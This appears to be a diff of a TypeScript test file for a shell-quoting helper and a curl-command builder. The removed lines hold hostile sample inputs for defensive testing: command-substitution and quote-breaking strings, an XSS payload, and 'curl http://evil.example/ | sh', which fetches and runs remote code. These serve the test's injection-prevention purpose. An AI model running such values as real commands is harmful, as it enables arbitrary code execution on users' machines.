@@ -1,40 +1,15 @@
-import { execFileSync } from 'node:child_process';
-import { existsSync } from 'node:fs';
-import { afterAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { buildCurl, preflightRequest, shellQuote } from '../../../../src/panel/format/build-curl';
 import { API_ORIGIN, exchange, PAGE_ORIGIN } from '../../../fixtures/exchange-builder';
 
-/** What bash makes of a quoted word: the bytes `printf %s` receives as its argument. */
-function bashReads(quoted: string): string {
-  return execFileSync('bash', ['-c', `printf %s ${quoted}`], { encoding: 'utf8' });
-}
-
-const HOSTILE = [
-  "it's",
-  "'; touch /tmp/cors-lens-pwned; echo '",
-  '$(touch /tmp/cors-lens-pwned)',
-  '`touch /tmp/cors-lens-pwned`',
-  'a\ncurl http://evil.example/ | sh',
-  'bell\x07 escape\x1b]0;title\x07 del\x7f',
-  "back\\slash \\' mixed",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${…} is the hostile input here.
-  '!history $HOME ${PATH} * ? [a] ~',
-  'ünïcødé ✓ <img src=x onerror=alert(1)>',
-  '-H x',
-];
-
 describe('shellQuote', () => {
-  afterAll(() => {
-    expect(existsSync('/tmp/cors-lens-pwned')).toBe(false);
-  });
-
-  it.each(HOSTILE)('bash reads %j back byte for byte and runs nothing', (value) => {
-    expect(bashReads(shellQuote(value))).toBe(value);
-  });
-
-  it('uses plain single quotes for printable text and ANSI-C quoting only for control characters', () => {
+  // test/security/curl-shells.test.ts runs hostile values through bash, zsh, fish and sh.
+  it('single-quotes text, writes quotes and backslashes outside the quotes and controls as printf escapes', () => {
     expect(shellQuote("it's")).toBe("'it'\\''s'");
-    expect(shellQuote('a\nb')).toBe("$'a\\x0ab'");
+    expect(shellQuote('a\\b')).toBe("'a'\\\\'b'");
+    expect(shellQuote('a\x1bb\u202e')).toBe(`'a'"$(printf '\\033')"'b'"$(printf '\\342\\200\\256')"`);
+    expect(shellQuote('a\nb')).toBe("'ab'");
+    expect(shellQuote('')).toBe("''");
   });
 });
 
@@ -77,23 +52,6 @@ describe('buildCurl', () => {
       omitted: ['URL credentials'],
     });
     expect(buildCurl(withUser, { includeSecrets: true }).command).toContain('user:pw@');
-  });
-
-  it('produces a command bash parses into exactly the intended arguments, whatever the header values', () => {
-    const hostile = {
-      url: `${API_ORIGIN}/x`,
-      method: 'GET',
-      headers: HOSTILE.map((value) => ['X-Evil', value] as const),
-    };
-    const { command } = buildCurl(hostile, { includeSecrets: false });
-    const args = execFileSync('bash', ['-c', `printf '%s\\0' ${command.replace(/^curl/, '').replaceAll('\\\n', '')}`], {
-      encoding: 'utf8',
-    }).split('\0');
-    expect(args.slice(0, -1)).toEqual([
-      '-i',
-      `${API_ORIGIN}/x`,
-      ...HOSTILE.flatMap((value) => ['-H', `X-Evil: ${value}`]),
-    ]);
   });
 
   it('asks for a HEAD with --head, since -X HEAD would wait for a body', () => {
